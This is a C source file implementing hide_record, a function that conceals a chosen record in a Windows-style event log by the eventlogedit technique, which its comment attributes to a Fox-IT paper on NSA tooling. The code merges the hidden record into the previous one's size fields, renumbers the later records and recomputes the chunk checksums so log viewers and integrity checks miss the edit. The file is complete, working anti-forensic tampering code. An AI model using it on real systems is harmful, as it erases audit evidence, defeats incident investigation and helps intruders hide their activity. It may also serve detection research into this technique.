// Hides one record the way eventlogedit does (Fox-IT, "Detection and recovery of NSA's covered up
// tracks", 2017): the size of the record before it grows over it, at both ends, so that no viewer
// sees it; the positions behind it shift by one, and the checksums are made right again.
#include "base/hash.h"
#include "events.h"

enum { head_size = 4096, chunk_bytes = 65536, records_at = 512 };

static void seal(u8 *chunk)
{
    u32 used = ks_load32(chunk + 48);
    ks_store32(chunk + 52, ks_crc32(0, (ks_span){ chunk + records_at, used - records_at }));
    u32 crc = ks_crc32(0, (ks_span){ chunk, 120 });
    ks_store32(chunk + 124, ks_crc32(crc, (ks_span){ chunk + 128, 384 }));
}

static void renumber(u8 *chunk, bool from_the_first)
{
    if (from_the_first)
        ks_store64(chunk + 8, ks_load64(chunk + 8) - 1);
    ks_store64(chunk + 16, ks_load64(chunk + 16) - 1);
    seal(chunk);
}

// The offset of the record; 0: not in this chunk, or the first one in it.
static size_t find(const u8 *chunk, u64 id, size_t *before)
{
    size_t at = records_at, last = 0, used = ks_load32(chunk + 48);
    for (; at < used; last = at, at += ks_load32(chunk + at + 4))
        if (ks_load64(chunk + at + 8) == id) {
            *before = last;
            return last ? at : 0;
        }
    return 0;
}

bool hide_record(u8 *log, size_t size, u64 hidden_id)
{
    bool is_hidden = false;
    for (size_t offset = head_size; offset < size; offset += chunk_bytes) {
        u8 *chunk = log + offset;
        size_t before = 0, at = is_hidden ? 0 : find(chunk, hidden_id, &before);
        if (is_hidden) {
            renumber(chunk, true);
        } else if (at) {
            u32 hidden = ks_load32(chunk + at + 4), merged = (u32)(at - before) + hidden;
            ks_store32(chunk + before + 4, merged);
            ks_store32(chunk + before + merged - 4, merged);
            if (ks_load32(chunk + 44) == at)
                ks_store32(chunk + 44, (u32)before);
            renumber(chunk, false);
            is_hidden = true;
        }
    }
    return is_hidden;
}
